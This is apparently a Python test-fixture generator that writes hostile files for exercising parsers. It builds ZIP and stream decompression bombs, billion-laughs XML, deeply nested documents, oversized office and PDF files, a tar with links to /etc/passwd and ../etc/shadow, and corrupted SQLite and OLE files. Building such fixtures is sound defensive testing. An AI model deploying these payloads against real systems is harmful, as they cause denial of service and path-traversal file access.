"""The makers of bombs: each writes one file; ``scale`` 1 is the full size."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import sqlite3
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from importlib import import_module
from pathlib import Path

Maker = Callable[[Path, float], None]
MIB = 1 << 20
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="text/xml"/>'
    '<Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)


def _times(scale: float, whole: int, least: int = 1) -> int:
    return max(least, int(whole * scale))


def _rels(target: str) -> str:
    relation = f'<Relationship Id="r1" Type="{_OFFICE}/officeDocument" Target="{target}"/>'
    return f'<Relationships xmlns="{_PACKAGE}">{relation}</Relationships>'


# ---------------------------------------------------------------- archives


def endless(path: Path, parts: dict[str, bytes], name: str, head: bytes, block: bytes, times: int) -> None:
    """A ZIP whose member ``name`` unpacks to ``head`` and ``times`` blocks; only one block is ever packed.

    Its checksum is wrong: who reads that far has already lost.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    once = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    body = first + once * times + packer.flush()
    size = len(head) + len(block) * times
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for other, data in parts.items():
            archive.writestr(other, data)
        info = zipfile.ZipInfo(name)
        info.compress_type, info.compress_size, info.file_size = zipfile.ZIP_DEFLATED, len(body), size
        info.CRC, info.header_offset = 0, archive.start_dir
        out = archive.fp
        assert out is not None
        out.seek(info.header_offset)
        out.write(info.FileHeader(zip64=size >= 1 << 32) + body)
        archive.filelist.append(info)
        archive.NameToInfo[name] = info
        archive.start_dir = out.tell()
        archive._didModify = True  # type: ignore[attr-defined]  # the directory is written at the end


def flat_zip(path: Path, scale: float) -> None:
    """One member of 10 GB."""
    endless(path, {}, "a.txt", b"", bytes(MIB), _times(scale, 10_000))


def nested_zip(path: Path, scale: float) -> None:
    """Sixteen archives in each archive, five levels deep: 16^5 members of 10 MB."""
    data = _zip({"0.txt": bytes(_times(scale, 10 * MIB))})
    for _ in range(5):
        data = _zip({f"{n:x}.zip": data for n in range(16)})
    path.write_bytes(data)


def overlapping_zip(path: Path, scale: float) -> None:
    """Many names for the same 50 MB."""
    data = _zip({"a": bytes(50 * MIB)})
    directory = data.rindex(b"PK\x01\x02")
    end = data.rindex(b"PK\x05\x06")
    count = _times(scale, 30_000, 10)
    entry = data[directory:end]
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(entry) * count, directory, 0)
    path.write_bytes(data[:directory] + entry * count + tail)


def many_zip(path: Path, scale: float) -> None:
    """A hundred thousand small members."""
    path.write_bytes(_zip({f"{n}.txt": b"x" for n in range(_times(scale, 60_000, 20))}))


def deep_zip(path: Path, scale: float) -> None:
    """Archives within one another, 200 levels."""
    data = _zip({"end.txt": "終わり".encode()})
    for _ in range(_times(scale, 200, 8)):
        data = _zip({"n.zip": data})
    path.write_bytes(data)


def _zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def packed(pack: Callable[[bytes], bytes], whole: int) -> Maker:
    """Streams of 10 MB of zeros one behind the other, which are one file to gzip, bzip2, xz and Zstandard."""

    def make(path: Path, scale: float) -> None:
        path.write_bytes(pack(bytes(10 * MIB)) * _times(scale, whole, 4))

    return make


def zstd(data: bytes) -> bytes:
    """A Zstandard frame; without the library the head of one."""
    try:
        made: bytes = import_module("backports.zstd").compress(data)
    except ImportError:
        return b"\x28\xb5\x2f\xfd" + bytes(9)
    return made


def seven_zip(path: Path, scale: float) -> None:
    """One member of 300 MB of zeros; without the library an empty 7z."""
    try:
        library = import_module("py7zr")
    except ImportError:
        path.write_bytes(b"7z\xbc\xaf\x27\x1c" + bytes(26))
        return
    with library.SevenZipFile(path, "w") as archive:
        archive.writestr(bytes(_times(scale, 300 * MIB)), "a.txt")


def special_tar(path: Path, scale: float) -> None:
    """Devices, links that lead out, names that climb, a sparse terabyte, and many small members."""
    with tarfile.open(path, "w") as archive:
        for name, kind, link in (
            ("dev/sda", tarfile.BLKTYPE, ""),
            ("pipe", tarfile.FIFOTYPE, ""),
            ("passwd", tarfile.SYMTYPE, "/etc/passwd"),
            ("shadow", tarfile.LNKTYPE, "../../../../etc/shadow"),
            ("../../../../tmp/climbed.txt", tarfile.REGTYPE, ""),
            ("/absolute.txt", tarfile.REGTYPE, ""),
        ):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, link
            archive.addfile(info)
        for n in range(_times(scale, 20_000, 20)):
            info = tarfile.TarInfo(f"{n}.txt")
            info.size = 3
            archive.addfile(info, io.BytesIO(b"abc"))
    with path.open("r+b") as out:
        out.seek(-1024 * 10, os.SEEK_END)
        sparse = tarfile.TarInfo("sparse.txt")
        sparse.size = 1 << 40
        out.write(sparse.tobuf(tarfile.GNU_FORMAT) + bytes(1024))


# ---------------------------------------------------------------- markup and office


def billion_laughs(path: Path, scale: float) -> None:
    """Entities of entities."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    path.write_text(f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "笑">{entities}]><x>&l11;</x>', encoding="utf-8")


def quadratic(path: Path, scale: float) -> None:
    """One long entity, often."""
    count = _times(scale, 100_000, 100)
    path.write_text(f'<!DOCTYPE x [<!ENTITY a "{"長" * count}">]><x>{"&a;" * count}</x>', encoding="utf-8")


def endless_docx(path: Path, scale: float) -> None:
    """A document whose only part is 10 GB of paragraphs."""
    parts = {"[Content_Types].xml": _TYPES.encode(), "_rels/.rels": _rels("word/document.xml").encode()}
    head = f'<w:document xmlns:w="{_WORD}"><w:body>'.encode()
    block = "<w:p><w:r><w:t>同じ段落が続く</w:t></w:r></w:p>".encode() * 20_000
    endless(path, parts, "word/document.xml", head, block, _times(scale, (10 << 30) // len(block), 30))


def deep_docx(path: Path, scale: float) -> None:
    """Tables within tables, thousands deep."""
    depth = _times(scale, 5_000, 300)
    body = "<w:tbl><w:tr><w:tc>" * depth + "<w:p><w:r><w:t>底</w:t></w:r></w:p>" + "</w:tc></w:tr></w:tbl>" * depth
    document = f'<w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>'
    relations = _rels("word/document.xml").encode()
    path.write_bytes(
        _zip({"[Content_Types].xml": _TYPES.encode(), "_rels/.rels": relations, "word/document.xml": document.encode()})
    )


def long_xlsx(path: Path, scale: float) -> None:
    """A million rows of a register, every one different."""
    book = f'<workbook xmlns="{_SHEET}" xmlns:r="{_OFFICE}"><sheets><sheet name="名簿" sheetId="1" r:id="r1"/></sheets></workbook>'
    sheets = f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" Type="{_OFFICE}/worksheet" Target="s.xml"/></Relationships>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("_rels/.rels", _rels("xl/workbook.xml"))
        archive.writestr("xl/workbook.xml", book)
        archive.writestr("xl/_rels/workbook.xml.rels", sheets)
        with archive.open("xl/s.xml", "w") as out:
            out.write(f'<worksheet xmlns="{_SHEET}"><sheetData>'.encode())
            for piece in _rows(_times(scale, 1_000_000, 1_000)):
                out.write(piece.encode())
            out.write(b"</sheetData></worksheet>")


def _rows(count: int) -> Iterator[str]:
    for n in range(1, count + 1):
        name = f'<c r="A{n}" t="inlineStr"><is><t>加入者{n * 7919 % 999_983}</t></is></c>'
        yield f'<row r="{n}">{name}<c r="B{n}"><v>{n * 104_729 % 99_999_989}</v></c></row>'


def long_pdf(path: Path, scale: float) -> None:
    """Fifty thousand pages with a line each, in a font that every reader knows."""
    count = _times(scale, 50_000, 200)
    objects = [
        "<</Type/Catalog/Pages 2 0 R>>",
        f"<</Type/Pages/Count {count}/Kids[{' '.join(f'{6 + 2 * n} 0 R' for n in range(count))}]>>",
        "<</Type/Font/Subtype/Type0/BaseFont/HeiseiMin-W3/Encoding/UniJIS-UCS2-H/DescendantFonts[4 0 R]>>",
        "<</Type/Font/Subtype/CIDFontType0/BaseFont/HeiseiMin-W3/CIDSystemInfo<</Registry(Adobe)/Ordering(Japan1)/Supplement 2>>"
        "/FontDescriptor 5 0 R>>",
        "<</Type/FontDescriptor/FontName/HeiseiMin-W3/Flags 4/FontBBox[0 -200 1000 900]/ItalicAngle 0/Ascent 900/Descent -200"
        "/CapHeight 700/StemV 80>>",
    ]
    for n in range(count):
        line = f"契約番号{n}の控え".encode("utf-16-be").hex()
        content = f"BT /F 12 Tf 60 700 Td <{line}> Tj ET"
        objects.append(f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F 3 0 R>>>>/Contents {7 + 2 * n} 0 R>>")
        objects.append(f"<</Length {len(content)}>>stream\n{content}\nendstream")
    out, places = bytearray(b"%PDF-1.5\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("ascii")
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += "".join(f"{place:010d} 00000 n \n" for place in places).encode()
    out += f"trailer<</Root 1 0 R/Size {len(objects) + 1}>>\nstartxref\n{start}\n%%EOF".encode()
    path.write_bytes(out)


def flate_pdf(path: Path, scale: float) -> None:
    """A page of a gigabyte, packed twice."""
    once = zlib.compress(b"BT /F 9 Tf (x) Tj ET\n" * _times(scale, 50_000_000, 50_000), 9)
    twice = zlib.compress(once, 9)
    body = b"<</Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n%s\nendstream" % (len(twice), twice)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"
    objects = (b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page, body)
    out = b"%PDF-1.5\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % pair for pair in enumerate(objects, 1))
    path.write_bytes(out + b"trailer<</Root 1 0 R>>\n%%EOF")


def deep(opening: str, closing: str, text: str, whole: int) -> Maker:
    """Something within itself."""

    def make(path: Path, scale: float) -> None:
        depth = _times(scale, whole, 500)
        path.write_text(opening * depth + text + closing * depth, encoding="utf-8")

    return make


# ---------------------------------------------------------------- mail and data


def many_parts(path: Path, scale: float) -> None:
    """A message of ten thousand parts, every second one an attachment."""
    parts = []
    for n in range(_times(scale, 10_000, 50)):
        place = f"attachment; filename={n}.txt" if n % 2 else "inline"
        parts.append(f"--b\nContent-Type: text/plain; charset=utf-8\nContent-Disposition: {place}\n\n控え{n}の本文\n")
    head = "Subject: many\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
    path.write_text(head + "".join(parts) + "--b--\n", encoding="utf-8")


def deep_mail(path: Path, scale: float) -> None:
    """A message within a message, three thousand times."""
    path.write_text("Content-Type: message/rfc822\n\n" * _times(scale, 3_000, 100) + "Subject: end\n\n終わり\n", encoding="utf-8")


def hostile_sqlite(path: Path, scale: float) -> None:
    """A view without end, a column that computes, a huge empty value, and a table whose page points at itself."""
    path.unlink(missing_ok=True)
    with sqlite3.connect(path) as db:
        db.execute("CREATE VIEW v AS WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c) SELECT n FROM c")
        db.execute("CREATE TABLE a(x TEXT)")
        db.executemany("INSERT INTO a(x) VALUES (?)", [(f"行{n}",) for n in range(_times(scale, 200_000, 200))])
        db.execute("CREATE TABLE d(x TEXT, y GENERATED ALWAYS AS (hex(zeroblob(100000000))) VIRTUAL)")
        db.executemany("INSERT INTO d(x) VALUES (?)", [("行",)] * 5)
        db.execute("CREATE TABLE b(x)")
        db.execute("INSERT INTO b VALUES (zeroblob(?))", (_times(scale, 200 * MIB),))
        db.execute("CREATE TABLE c(x)")
        db.executemany("INSERT INTO c VALUES (?)", [("輪" * 500,)] * _times(scale, 2_000, 50))
        (root,) = db.execute("SELECT rootpage FROM sqlite_master WHERE name = 'c'").fetchone()
        (page,) = db.execute("PRAGMA page_size").fetchone()
    db.close()
    with path.open("r+b") as file:  # an inner page whose last child is itself
        file.seek((root - 1) * page + 8)
        file.write(struct.pack(">I", root))


def long_line(path: Path, scale: float) -> None:
    """A line of 200 million characters."""
    with path.open("w", encoding="utf-8") as out:
        for _ in range(_times(scale, 200, 1)):
            out.write("一行が終わらない" * 125_000)


def sparse_text(path: Path, scale: float) -> None:
    """Twelve gigabytes that are not there."""
    with path.open("wb") as out:
        out.write("始め\n".encode())
        out.truncate(_times(scale, 12 << 30))


def deep_json(path: Path, scale: float) -> None:
    """Lists within lists, a hundred thousand deep, and the same as keys."""
    depth = _times(scale, 100_000, 2_000)
    path.write_text('{"k":' * depth + json.dumps("底") + "}" * depth, encoding="utf-8")


def ole_loop(path: Path, scale: float) -> None:
    """A compound file whose table of sectors leads in a circle."""
    head = struct.pack(
        "<8s16xHHHHH6xIIIIIIIII", bytes.fromhex("d0cf11e0a1b11ae1"), 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 0, 0, 4096, 0, 1, 0, 1
    )
    head += struct.pack("<I", 0) + struct.pack("<108I", *([0] * 108))
    path.write_bytes(head[:512].ljust(512, b"\0") + struct.pack("<128I", *([1, 0] * 64)) + bytes(512 * 4))


BOMBS: dict[str, tuple[Maker, str]] = {
    "zip-flat": (flat_zip, ".zip"),
    "zip-nested": (nested_zip, ".zip"),
    "zip-overlapping": (overlapping_zip, ".zip"),
    "zip-60000-members": (many_zip, ".zip"),
    "zip-200-levels": (deep_zip, ".zip"),
    "gzip": (packed(gzip.compress, 400), ".gz"),
    "bzip2": (packed(bz2.compress, 400), ".bz2"),
    "xz": (packed(lzma.compress, 400), ".xz"),
    "zstd": (packed(zstd, 400), ".zst"),
    "7z": (seven_zip, ".7z"),
    "tar-special": (special_tar, ".tar"),
    "xml-laughs": (billion_laughs, ".xml"),
    "xml-quadratic": (quadratic, ".xml"),
    "xml-deep": (deep("<a>", "</a>", "底", 100_000), ".xml"),
    "html-deep": (deep("<div>", "</div>", "底", 200_000), ".html"),
    "rtf-deep": (deep("{\\rtf1 ", "}", "a", 100_000), ".rtf"),
    "json-deep": (deep_json, ".json"),
    "docx-10GB-part": (endless_docx, ".docx"),
    "docx-deep-tables": (deep_docx, ".docx"),
    "xlsx-1000000-rows": (long_xlsx, ".xlsx"),
    "pdf-50000-pages": (long_pdf, ".pdf"),
    "pdf-1GB-page": (flate_pdf, ".pdf"),
    "eml-10000-parts": (many_parts, ".eml"),
    "eml-3000-deep": (deep_mail, ".eml"),
    "sqlite-hostile": (hostile_sqlite, ".sqlite"),
    "txt-one-line": (long_line, ".txt"),
    "txt-sparse-12GB": (sparse_text, ".txt"),
    "ole-loop": (ole_loop, ".doc"),
}
